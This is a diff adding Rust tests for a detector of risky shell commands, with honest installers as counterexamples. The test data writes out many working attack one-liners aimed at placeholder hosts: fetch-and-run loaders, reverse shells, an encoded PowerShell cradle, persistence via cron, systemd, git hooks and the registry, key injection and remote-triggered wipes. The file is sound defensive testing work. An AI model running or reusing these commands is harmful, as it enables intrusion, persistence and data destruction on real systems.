@@ -220,6 +220,164 @@ fn what_starts_by_itself_needs_no_nameless_host() {
 }
 
 #[test]
+fn a_script_that_hides_its_means_is_followed() {
+    let mut missed = Vec::new();
+    for (text, rule) in [
+        (
+            "for h in a.helper.invalid 203.0.113.31; do\n body=$(curl -s \"http://$h/b\") || continue\n printf '%s' \"$body\" | bash\ndone",
+            Rule::FetchRun,
+        ),
+        (
+            "get() { curl -fsS \"$1\" -o \"$2\"; }\nget http://203.0.113.9/a /tmp/a\nsh /tmp/a",
+            Rule::FetchRun,
+        ),
+        ("run() { \"$@\" | sh; }\nrun curl -s http://203.0.113.9/x", Rule::FetchRun),
+        ("alias say=wget\nalias to=sh\nsay -q -O - http://203.0.113.9/r | to", Rule::FetchRun),
+        (
+            "exec 5<>/dev/tcp/203.0.113.9/80\ncat <&5 | while read line; do $line 2>&5 >&5; done",
+            Rule::FetchRun,
+        ),
+        ("exec 5<>/dev/tcp/c2.helper.invalid/80\nbash <&5 >&5 2>&1", Rule::ReverseShell),
+        ("nc -w 3 c2.helper.invalid 4480 </dev/null | sh", Rule::ReverseShell),
+        (
+            "mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 203.0.113.9:443 > /tmp/s",
+            Rule::ReverseShell,
+        ),
+        (
+            "wget -q http://203.0.113.9/t.tgz && tar xzf t.tgz -C /tmp/kit && sh /tmp/kit/install.sh",
+            Rule::FetchRun,
+        ),
+        ("curl -s http://203.0.113.9/t.tgz | tar xz -C /tmp/kit; /tmp/kit/run", Rule::FetchRun),
+        (
+            "git clone -q http://203.0.113.9/t.git /tmp/kit; cd /tmp/kit; bash setup.sh",
+            Rule::FetchRun,
+        ),
+        ("scp -q a@203.0.113.9:/x /tmp/x; sh /tmp/x", Rule::FetchRun),
+        ("lwp-request http://203.0.113.9/x | sh", Rule::FetchRun),
+        (
+            "perl -MHTTP::Tiny -e 'my $r = HTTP::Tiny->new->get(\"http://198.51.100.201/c.pl\");\n eval $r->{content};'",
+            Rule::FetchRun,
+        ),
+        (
+            "ruby -rsocket -e 'c=TCPSocket.new(\"c2.helper.invalid\",1);while(cmd=c.gets);IO.popen(cmd,\"r\"){|io|c.print io.read}end'",
+            Rule::ReverseShell,
+        ),
+        (
+            "gawk 'BEGIN { s = \"/inet/tcp/0/203.0.113.9/1\"; while ((s |& getline c) > 0) { while ((c | getline o) > 0) print o |& s } }'",
+            Rule::ReverseShell,
+        ),
+        ("php -r 'eval(file_get_contents(\"http://203.0.113.9/x\"));'", Rule::FetchRun),
+        (
+            "(curl -fsSL https://cdn.helper.example/a.sh | sh) >/dev/null 2>&1 &",
+            Rule::ConcealedFetchRun,
+        ),
+        (
+            "nohup bash -c 'curl -s https://cdn.helper.example/a.sh | sh' >/dev/null 2>&1 &",
+            Rule::ConcealedFetchRun,
+        ),
+        (
+            "curl -fsS http://203.0.113.2/go >/dev/null && rm -rf --no-preserve-root \"$HOME\"/*",
+            Rule::RemoteDestruction,
+        ),
+        (
+            "if curl -fs https://flag.helper.example/on; then\n  rm -rf ~\nfi",
+            Rule::RemoteDestruction,
+        ),
+        ("curl -s http://203.0.113.9/k >> ~/.ssh/authorized_keys", Rule::FetchedKeys),
+        (
+            "certutil -urlcache -split -f http://203.0.113.77/k.txt \"k.txt\" >nul\ncertutil -decode k.txt k.exe\nstart \"\" /b k.exe",
+            Rule::FetchDecodeRun,
+        ),
+        (
+            "bitsadmin /transfer f http://203.0.113.65/f.dll \"f.dll\"\nrundll32 \"f.dll\",Init",
+            Rule::FetchRun,
+        ),
+        (
+            "powershell -w hidden -nop -e SQBFAFgAKABJAFcAUgAgAGgAdAB0AHAAOgAvAC8AMgAwADMALgAwAC4AMQAxADMALgAxADIAMgAvAGMAbAAuAHAAcwAxACAALQBVAHMAZQBCAGEAcwBpAGMAUABhAHIAcwBpAG4AZwApAC4AQwBvAG4AdABlAG4AdAA=",
+            Rule::FetchRun,
+        ),
+        (
+            "powershell.exe -NoProfile -ExecutionPolicy Bypass -Command \"iwr http://203.0.113.9/x.ps1 | iex\"",
+            Rule::FetchRun,
+        ),
+        ("mshta http://203.0.113.65/a.hta", Rule::FetchRun),
+        ("regsvr32 /s /n /u /i:http://203.0.113.65/a.sct scrobj.dll", Rule::FetchRun),
+    ] {
+        let found = rules(text);
+        if !found.contains(&rule) {
+            missed.push((text, found));
+        }
+    }
+    assert!(missed.is_empty(), "{missed:#?}");
+}
+
+#[test]
+fn what_starts_later_by_itself_is_read_in_each_form() {
+    const FETCH: &str = "curl -s https://cdn.helper.example/a | sh";
+    for text in [
+        format!("echo '* * * * * root {FETCH}' > /etc/cron.d/x"),
+        format!("(crontab -l; echo '@reboot {FETCH}') | crontab -"),
+        format!(
+            "cat > ~/.config/systemd/user/x.service <<'E'\n[Service]\nExecStart=/bin/sh -c \"{FETCH}\"\nE"
+        ),
+        format!(
+            "cat > ~/Library/LaunchAgents/a.plist <<'E'\n<key>Label</key><string>a</string>\n<key>ProgramArguments</key><array><string>sh</string><string>-c</string><string>{FETCH}</string></array>\nE"
+        ),
+        format!(
+            "printf '[Desktop Entry]\\nExec=sh -c \"{FETCH}\"\\n' > ~/.config/autostart/a.desktop"
+        ),
+        format!("git config --global core.sshCommand \"sh -c '{FETCH}; exec ssh' --\""),
+        format!("git config --global alias.st '!{FETCH}; git status'"),
+        format!("printf '#!/bin/sh\\n{FETCH}\\n' > .git/hooks/post-checkout"),
+        format!("echo \"{FETCH}\" | at now + 5 minutes"),
+        format!("echo 'run-shell \"{FETCH}\"' >> ~/.tmux.conf"),
+        format!("schtasks /create /sc onlogon /tn x /tr \"{FETCH}\""),
+        format!(
+            "reg add HKCU\\\\Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run /v x /d \"{FETCH}\" /f"
+        ),
+    ] {
+        let found = rules(&text);
+        assert!(found.contains(&Rule::AutomaticFetchRun), "{text}: {found:?}");
+    }
+}
+
+#[test]
+fn honest_installers_schedules_and_clean_ups_are_no_chain() {
+    for text in [
+        "curl -fsSL -o /usr/local/bin/tool https://dl.vendor.example/tool\nchmod +x /usr/local/bin/tool\ncat > /etc/systemd/system/tool.service <<'E'\n[Service]\nExecStart=/usr/local/bin/tool --serve\nE\nsystemctl enable --now tool",
+        "wget https://dl.vendor.example/node.tgz && tar xzf node.tgz -C /opt/node && /opt/node/bin/setup.sh\necho '@reboot /opt/node/bin/setup.sh' | crontab -",
+        "(crontab -l; echo '0 3 * * * curl -fsS https://hc-ping.vendor.example/uuid >/dev/null 2>&1') | crontab -",
+        "(crontab -l; echo '0 3 * * * restic backup ~/docs') | crontab -",
+        "git config --global core.pager 'less -R'\ngit config --global core.editor vim\ngit config credential.helper '!gh auth git-credential'",
+        "git clone https://code.vendor.example/tool.git && cd tool && ./install.sh",
+        "rm -rf ~/.cache/tool \"$HOME/.local/share/tool\"",
+        "curl -fsS https://api.vendor.example/health && rm -rf build dist",
+        "curl -fsS -O https://dl.vendor.example/image.img.xz && xz -d image.img.xz",
+        "curl -fsSL https://dl.vendor.example/list.txt && rm -rf \"$HOME/Downloads/old\"",
+        "curl -fsSL https://get.vendor.example/i.sh | sh >/dev/null 2>&1",
+        "curl -fsSLo server https://dl.vendor.example/server\nchmod +x server\nnohup ./server >/dev/null 2>&1 &",
+        "curl -fsSLo i.sh https://dl.vendor.example/i.sh\n(sh i.sh) >/dev/null 2>&1 &",
+        "DIR=\ncurl -fsS https://api.vendor.example && rm -rf \"$DIR\"",
+        "powershell -NoProfile -EncodedCommand RwBlAHQALQBTAGUAcgB2AGkAYwBlACAAfAAgAEYAbwByAG0AYQB0AC0AVABhAGIAbABlAA==",
+        "powershell -ExecutionPolicy Bypass -File build.ps1",
+        "curl -s https://github.com/someone.keys >> ~/.ssh/authorized_keys",
+        "cat ~/.ssh/id_ed25519.pub >> ~/.ssh/authorized_keys",
+        "for f in a b c; do curl -fsS https://dl.vendor.example/$f -o $f; done",
+        "exec 3<>/dev/tcp/203.0.113.9/80\nprintf 'GET / HTTP/1.0\\r\\n\\r\\n' >&3\ncat <&3",
+        "openssl s_client -connect vendor.example:443 </dev/null | openssl x509 -noout -dates",
+        "server --port 3000 >/dev/null 2>&1 &\ncurl -fsS http://localhost:3000/health",
+        "awk '{print $1}' access.log | sort | uniq -c",
+        "perl -pe 's/a/b/' file.txt; perl -ne 'print if /x/' file.txt; ruby -e 'puts 1'",
+        "start \"\" http://localhost:3000",
+        "scp build.tar.gz deploy@host.vendor.example:/srv/app/",
+    ] {
+        let found = rules(text);
+        let blocking: Vec<_> = found.iter().filter(|rule| rule.blocks()).collect();
+        assert!(blocking.is_empty(), "{text}: {blocking:?}");
+    }
+}
+
+#[test]
 fn each_step_has_its_line() {
     let text = "# one\nU=http://203.0.113.9/x\n\ncurl -o /tmp/a \\\n  $U\n\necho\nsh /tmp/a\n";
     let chains = chains(text, Start::Asked, &mut Limits::default());
@@ -268,6 +426,13 @@ fn deep_and_long_texts_end() {
         (format!("cat <<A > f\n{long}\nA\n{{ {half_a_megabyte} }} < f"), true),
         ("f(){ f; f; }\n".to_owned() + &"f;".repeat(1000), false),
         ("curl a.example | sh;".repeat(20_000), false),
+        (
+            format!(
+                "for a in {0}; do for b in {0}; do for c in {0}; do x; done; done; done",
+                "1.2.3.4 a ".repeat(4_000)
+            ),
+            true,
+        ),
         ("eval 'eval \"$a\"'; a='eval \"$a\"; eval \"$a\"'; eval \"$a\"".to_owned(), true),
     ];
     for (text, exhausts) in texts {
@@ -332,4 +497,99 @@ fn programs_inside_of_programs_end() {
         .stack_size(2 << 20)
         .spawn(move || chains(&text, Start::Automatic, &mut Limits::default()).len());
     assert_eq!(read.unwrap().join().unwrap(), 0);
+}
+
+#[test]
+fn each_word_of_a_loop_and_each_argument_counts() {
+    let honest: String = (0..12).map(|at| format!("https://dl{at}.vendor.example/x ")).collect();
+    let folders: String =
+        (0..20).map(|at| format!("git clone https://code.vendor.example/{at}\n")).collect();
+    let names: String = (0..20).map(|at| format!("name{at} ")).collect();
+    for text in [
+        format!("for u in {honest} http://203.0.113.9/x; do curl -s $u | sh; done"),
+        format!("for u in {names} 203.0.113.9; do curl -s $u | sh; done"),
+        format!("for c in {honest} 'curl http://203.0.113.9/x | sh'; do eval \"$c\"; done"),
+        format!(
+            "f() {{ for u in $@; do curl -s $u | sh; done; }}\nf {honest} http://203.0.113.9/x"
+        ),
+        format!("curl -s {honest} http://203.0.113.9/x | sh"),
+        format!("{folders}git clone http://203.0.113.9/t.git /tmp/kit\nsh /tmp/kit/setup.sh"),
+    ] {
+        assert!(rules(&text).contains(&Rule::FetchRun), "{text}");
+    }
+    let read = |text: &str| {
+        let mut limits = Limits::default();
+        let _ = chains(text, Start::Asked, &mut limits);
+        !limits.exhausted
+    };
+    let many: String = (0..90).map(|at| format!("https://dl{at}.vendor.example/x ")).collect();
+    assert!(!read(&format!("for u in {many}; do curl -s $u | sh; done")));
+    assert!(!read(&format!("f() {{ curl -s $1; }}\nf {many}")));
+    assert!(!read(&format!("curl {many}")));
+    assert!(!read(&format!("curl -s {{{}}} | sh", many.trim().replace(' ', ","))));
+    let plain: String = (0..500).map(|at| format!("name{at} ")).collect();
+    assert!(read(&format!("for n in {plain}; do make $n; done")));
+    assert!(read(&format!("for u in {honest}; do curl -sO $u; done\n{folders}")));
+}
+
+#[test]
+fn a_start_file_that_is_installed_once_blocks_only_from_a_nameless_host() {
+    const HOST: &str = "https://raw.githubusercontent.com/example/tool/main";
+    for (text, shown) in [
+        (format!("curl -fsSL {HOST}/a.rules | sudo tee /etc/udev/rules.d/99-a.rules"), false),
+        (format!("sudo curl -fsSL {HOST}/a.service -o /etc/systemd/system/a.service"), false),
+        (format!("curl {HOST}/a.desktop -o ~/.local/share/applications/a.desktop"), false),
+        (format!("wget -O ~/.vimrc {HOST}/.vimrc"), false),
+        (format!("curl {HOST}/gitconfig -o ~/.gitconfig"), false),
+        (format!("curl {HOST}/aliases -o ~/.bash_aliases"), true),
+        (format!("curl -Lo .git/hooks/commit-msg {HOST}/c\nchmod +x .git/hooks/commit-msg"), true),
+        (format!("{{ echo '#!/bin/sh'; curl -s {HOST}/c; }} > .git/hooks/commit-msg"), true),
+        (
+            format!(
+                "curl {HOST}/a.tgz | tar xz -C /opt/a; cp /opt/a/a.service /etc/systemd/system/"
+            ),
+            false,
+        ),
+        (
+            "git clone https://github.com/example/dot ~/dot\ncp ~/dot/zshrc ~/.zshrc".to_owned(),
+            true,
+        ),
+    ] {
+        let expected: &[Rule] = if shown { &[Rule::FetchEvaluated] } else { &[] };
+        assert_eq!(rules(&text), expected, "{text}");
+    }
+    for text in [
+        "curl -fsSL http://203.0.113.9/a.service -o /etc/systemd/system/a.service",
+        "wget -O ~/.vimrc http://203.0.113.9/.vimrc",
+        "curl http://203.0.113.9/aliases -o ~/.bash_aliases",
+        "curl http://203.0.113.9/c -o .git/hooks/commit-msg",
+    ] {
+        assert_eq!(rules(text), [Rule::FetchRun], "{text}");
+    }
+    let hook = "curl https://cdn.helper.example/a >> ~/.bashrc";
+    assert_eq!(automatic(hook), [Rule::AutomaticFetchRun]);
+}
+
+#[test]
+fn a_fetch_before_a_clean_up_or_a_flash_is_no_switch() {
+    for text in [
+        "curl -fL -o a.img https://dl.vendor.example/a.img && sudo dd if=a.img of=/dev/mmcblk0 bs=4M",
+        "curl -fLO https://dl.vendor.example/a.img && dd if=/dev/zero of=/dev/sdb count=1 && dd if=a.img of=/dev/sdb",
+        "curl -fsS https://hc-ping.vendor.example/u >/dev/null && find ~ -name .DS_Store -delete",
+        "if curl -fsS https://hc-ping.vendor.example/u; then find /var -name '*.gz' -mtime +30 -delete; fi",
+        "curl -fsS https://mirror.vendor.example/ >/dev/null && mkfs.ext4 /dev/vdb",
+        "if curl -fsS https://git.vendor.example/healthz; then git push --mirror --force backup; fi",
+    ] {
+        assert_eq!(rules(text), [], "{text}");
+    }
+    for text in [
+        "curl -fs https://flag.helper.example/on && find ~ -delete",
+        "curl -fs https://flag.helper.example/on && find ~ -type f -delete",
+        "curl -fs https://flag.helper.example/on && find ~ -name '*' -delete",
+        "curl -fs https://flag.helper.example/on && find ~ ! -name keep -delete",
+        "curl -fs https://flag.helper.example/on && dd if=/dev/zero of=/dev/sda",
+        "curl -fs https://flag.helper.example/on -o /tmp/x && rm -rf ~",
+    ] {
+        assert_eq!(rules(text), [Rule::RemoteDestruction], "{text}");
+    }
 }
